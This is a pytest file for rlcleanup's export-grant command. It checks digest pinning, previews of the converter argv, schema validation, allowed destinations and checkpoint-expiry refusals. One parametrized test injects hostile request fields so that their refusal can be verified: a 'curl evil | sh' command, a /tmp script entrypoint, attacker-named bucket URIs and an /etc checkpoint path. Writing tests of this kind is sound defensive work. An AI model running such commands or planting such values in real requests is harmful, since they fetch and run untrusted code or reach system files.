"""Issue 49 item 1 and 2: `grant --action export` on an owed HF export. The grant pins the request's sha256, the
preview runs every check the grant runs (the same `export.plan_export`), the command is the deployment's converter
then upstream's overrides from fields validated against upstream's schema (an argv list), and a request naming a
command, a path or a host outside the allowed set is refused, as is a checkpoint that expires before the export
could finish. The run is the `deferred-export` sample (samples/exports_v3.py): step 20's export never ran
(convertible, a Hub repo in its request), 10 failed twice, 15 is partial, 5 is a valid export."""

from __future__ import annotations

import hashlib
import json
import os
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cli_support import add_approver, classify_sample, invoke, isolated_cli_env, ray_export_env

from rlcleanup.adapters.local_storage import LocalStorage
from rlcleanup.adapters.sqlite_records import SqliteRunRecords
from rlcleanup.authority.export import ExportContext, plan_export
from rlcleanup.authority.grants import Action, Grant, Refusal
from rlcleanup.authority.outcome import Outcome
from rlcleanup.formats.export_request_schema import RequestSchemaError, validate_request
from rlcleanup.models.record import CompletionRecord
from rlcleanup.ports.controllers import ExportJobSpec, SubmittedJob
from rlcleanup.samples.exports_v3 import HUB_REPO, export_request
from rlcleanup.settings import ExportSettings
from rlcleanup.steps.expiry import owed_export_deadlines

CONVERTER = ["python3", "-m", "tiny_converter"]
RAY = "http://127.0.0.1:9"  # configured, never reached: every case below is decided before a submission


@pytest.fixture(scope="module")
def classified(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path, Path, Path]]:
    """(run id, run root, step 20's request, the CLI's home) of a classified deferred-export run, alice allowed to
    write under its root. One pipeline run for the module: each test restores what it edits (`run`)."""
    base = tmp_path_factory.mktemp("export-grant")
    with pytest.MonkeyPatch.context() as mp:
        isolated_cli_env(base, mp)
        run_id, root = classify_sample(base, "deferred-export")
        add_approver("alice", root.resolve(), base / "models")
        [request] = (base / "src").rglob("global_step_20/hf_export_request.json")
        yield run_id, root, request, base


@pytest.fixture
def run(classified: tuple[str, Path, Path, Path], monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, Path, Path]]:
    """(run id, run root, step 20's request) with the export settings of a deployment that submits to Ray."""
    run_id, root, request, base = classified
    ray_export_env(base, monkeypatch, CONVERTER, RAY)  # the module's environment, as its fixture made it
    original = request.read_bytes()
    checkpoint = [(f, f.stat().st_mtime) for f in request.parent.rglob("*")]
    yield run_id, root, request
    request.write_bytes(original)
    for f, mtime in checkpoint:
        os.utime(f, (mtime, mtime))


def _grant(run_id: str, step: int, *extra: str) -> tuple[int, dict[str, Any]]:
    code, out, err = invoke("grant", run_id, "--action", "export", "--step", str(step), "--key", "alice", *extra)
    assert out.strip(), (code, err)
    return code, json.loads(out)


def _both(run_id: str, step: int, *extra: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The preview and the grant of the same export, each as JSON."""
    code_preview, preview = _grant(run_id, step, *extra, "--dry-run", "--json")
    code_grant, granted = _grant(run_id, step, *extra, "--json")
    assert code_preview == code_grant == 3, (preview, granted)
    return preview, granted


def _edit(path: Path, **changes: Any) -> None:
    payload = json.loads(path.read_text())
    payload.update(changes)
    path.write_text(json.dumps(payload, sort_keys=True))


def test_the_preview_shows_the_exact_argv_from_the_validated_request(run: tuple[str, Path, Path]) -> None:
    run_id, _, path = run
    checkpoints = path.parent.parent
    code, preview = _grant(run_id, 20, "--dry-run", "--json")
    assert code == 0 and preview["would"] == "submit", preview
    request = json.loads(path.read_text())
    assert preview["argv"] == [
        *CONVERTER,
        "++checkpoint_export.step=20",
        f"++checkpoint_export.checkpoint_path={checkpoints / 'global_step_20'}",
        f"++checkpoint_export.export_root={request['export_path']}",
        "++checkpoint_export.hf_hub_repo_id=null",  # the job never publishes outside a grant
        "++checkpoint_export.hf_hub_private=true",
        "++checkpoint_export.hf_hub_revision=main",
        "++checkpoint_export.hf_upload_mode=latest",
    ]
    assert preview["destination"] == str(Path(request["export_path"]).resolve())
    assert preview["controller"] == "ray" and preview["job_id"].startswith("rlcleanup-export-20-")
    assert any(HUB_REPO in note for note in preview["notes"]), preview["notes"]
    assert preview["checkpoint_bytes"] > 0 and preview["request_status"] == "pending"


def test_a_request_edited_after_the_grant_was_signed_is_refused_wrong_digest(
    run: tuple[str, Path, Path], tmp_path: Path
) -> None:
    run_id, _, path = run
    original = hashlib.sha256(path.read_bytes()).hexdigest()
    _edit(path, num_nodes=64)  # the run's owner rewrites it after the approver read it
    code, _, err = invoke("grant", run_id, "--action", "export", "--step", "20", "--key", "alice", "--digest", original)
    assert code == 3 and "nothing was signed" in err, err
    # A grant signed over the original bytes and carried out after the edit: the grant's own check refuses it.
    code, out, err = invoke("show", run_id, "--json")
    record = CompletionRecord.model_validate(json.loads(out))
    now = datetime.now(UTC)
    export_path = str(Path(json.loads(path.read_text())["export_path"]).resolve())
    grant = Grant(
        run_id=run_id, action=Action.export, step=20, digest=original, destination=export_path,
        granted_by="alice", granted_at=now, expires_at=now + timedelta(hours=1),
    )  # fmt: skip
    settings = ExportSettings(converter=tuple(CONVERTER), controller="ray")
    exports = ExportContext(settings, lambda _name: _NeverSubmits(), SqliteRunRecords(tmp_path / "records.db"))
    refused = plan_export(LocalStorage(), record, grant, exports, now)
    assert isinstance(refused, Outcome) and refused.refusal is Refusal.wrong_digest, refused
    assert f"the grant pinned {original}" in refused.detail


class _NeverSubmits:
    """The controller a refused plan must never reach."""

    name = "ray"

    def submit(self, job: ExportJobSpec) -> SubmittedJob:
        raise AssertionError(f"submitted {job}")

    def job_state(self, job_id: str) -> SubmittedJob:
        raise AssertionError(f"read {job_id}")


@pytest.mark.parametrize(
    ("edit", "refusal", "said"),
    [
        ({"command": "curl evil | sh"}, "request_invalid", "Extra inputs are not permitted at command"),
        ({"entrypoint": "python /tmp/x.py"}, "request_invalid", "Extra inputs are not permitted at entrypoint"),
        ({"step": "20"}, "request_invalid", "valid integer at step"),
        ({"step": 10}, "request_invalid", "is for step 10, not 20"),
        ({"model_path": "gs://attacker-bucket/model"}, "not_allowed", "outside the allowed model sources"),
        ({"model_source_uri": "s3://attacker/m"}, "not_allowed", "model_source_uri s3://attacker/m is outside"),
        ({"checkpoint_path": "/etc"}, "not_allowed", "names checkpoint_path /etc"),
        ({"export_path": "/tmp/elsewhere"}, "not_allowed", "exports to /tmp/elsewhere; the grant's destination is"),
        ({"export_path": "<models>"}, "not_allowed", "is outside the run's roots"),
        ({"status": "complete"}, "not_applicable", "already reads complete"),
    ],
)
def test_a_request_outside_upstreams_schema_or_the_allowed_set_is_refused_in_preview_and_grant(
    run: tuple[str, Path, Path], edit: dict[str, Any], refusal: str, said: str
) -> None:
    run_id, root, path = run
    models = str(root.parents[3] / "models")  # alice may grant there, but it is not the run's
    edit = {k: models if v == "<models>" else v for k, v in edit.items()}
    _edit(path, **edit)
    dest = ["--destination", models if edit.get("export_path") == models else str(root.resolve() / "exports")]
    preview, granted = _both(run_id, 20, *dest)
    assert (preview["would"], preview["refusal"]) == ("refuse", refusal), preview
    assert said in preview["detail"], preview["detail"]
    assert granted["refusal"] == refusal, granted


def test_no_converter_or_no_controller_refuses_every_export(
    run: tuple[str, Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id, _, _ = run
    monkeypatch.delenv("RLCLEANUP_RAY_DASHBOARD")
    preview, granted = _both(run_id, 20)
    assert preview["refusal"] == granted["refusal"] == "no_controller"
    assert "RLCLEANUP_RAY_DASHBOARD" in preview["detail"]
    monkeypatch.delenv("RLCLEANUP_EXPORT_CONVERTER")
    preview, granted = _both(run_id, 20)
    assert preview["refusal"] == granted["refusal"] == "not_allowed"
    assert "RLCLEANUP_EXPORT_CONVERTER" in preview["detail"]
    code, out, err = invoke("grants", run_id, "--json")  # the refused export grants are listed with their refusal
    assert code == 0, err
    refused = [g for g in json.loads(out) if g.get("action") == "export" and g.get("refusal") == "not_allowed"]
    assert refused, out


def test_only_an_owed_export_is_granted(run: tuple[str, Path, Path]) -> None:
    run_id, _, _ = run
    preview, granted = _both(run_id, 15)  # partial: the export job died mid-write
    assert preview["refusal"] == granted["refusal"] == "not_applicable" and "partial" in preview["detail"]
    code, _, err = invoke("grant", run_id, "--action", "export", "--step", "5", "--key", "alice", "--dry-run")
    assert code == 1 and "no export request at step 5" in err, err


def test_a_checkpoint_that_expires_before_the_export_could_finish_is_refused_with_the_numbers(
    run: tuple[str, Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id, _, path = run
    # The sample's temp root is tmp/ttl=<N>d/: age the checkpoint's files so the lifecycle rule is an hour away.
    ttl = int(str(path).split("ttl=")[1].split("d")[0])
    aged = time.time() - ttl * 86400 + 3600
    for f in path.parent.rglob("*"):
        os.utime(f, (aged, aged))
    monkeypatch.setenv("RLCLEANUP_EXPORT_THROUGHPUT_BYTES_PER_SECOND", "1")  # bytes / 1 B/s: days
    preview, granted = _both(run_id, 20)
    assert preview["refusal"] == granted["refusal"] == "expires_too_soon", preview
    detail = preview["detail"]
    assert "B/s, the stated default throughput" in detail and "expires at" in detail and "needs about" in detail
    # The alternative is the exact command, not "copy it by hand".
    assert (
        f"`rlcleanup grant {run_id} --action preserve --step 20 --to <durable URI> --key <key id> --dry-run`" in detail
    )
    assert "by hand" not in detail
    monkeypatch.setenv("RLCLEANUP_EXPORT_THROUGHPUT_BYTES_PER_SECOND", "1e12")
    monkeypatch.setenv("RLCLEANUP_EXPORT_MARGIN_SECONDS", "60")
    code, preview = _grant(run_id, 20, "--dry-run", "--json")
    assert code == 0 and preview["would"] == "submit", preview


def test_all_three_upstream_schema_versions_validate_and_a_stranger_does_not() -> None:
    v3 = export_request(20, Path("/r/ckpt"), Path("/r/exports"), "pending", 0, None)
    v2 = {k: v for k, v in v3.items() if k not in ("timeout", "model_source_uri", "model_source_identity")}
    v2["timeout_seconds"] = 7200
    v1 = {k: v for k, v in v2.items() if k != "checkpoint_base_path"} | {"strategy": "fsdp2"}
    assert [type(validate_request(p)).__name__ for p in (v3, v2, v1)] == ["RequestV3", "RequestV2", "RequestV1"]
    with pytest.raises(RequestSchemaError, match=r"RequestV1: .*strategy"):
        validate_request({**v2, "script": "x.sh"})
    with pytest.raises(RequestSchemaError):
        validate_request({**v3, "hf_upload_mode": "everything"})


def test_an_owed_export_near_its_expiry_names_the_exact_grant_command(run: tuple[str, Path, Path]) -> None:
    run_id, _, _ = run
    code, out, err = invoke("show", run_id, "--json")
    assert code == 0, err
    record = CompletionRecord.model_validate(json.loads(out))
    owed = next(c for c in record.candidates if c.step == 20)
    assert owed.expires_at is not None
    [(at, item, _uri)] = [d for d in owed_export_deadlines([owed], owed.expires_at - timedelta(hours=24), run_id)]
    assert at == owed.expires_at and item.startswith("needs person by ")
    assert f"`rlcleanup grant {run_id} --action export --step 20 --key <key id> --dry-run`" in item
    assert f"`rlcleanup grant {run_id} --action preserve --step 20 --to <durable URI> --key <key id> --dry-run`" in item
    command = next(i for i in record.remaining_work if i.startswith("export owed: run global_step_20"))
    assert f"rlcleanup grant {run_id} --action export --step 20" in command
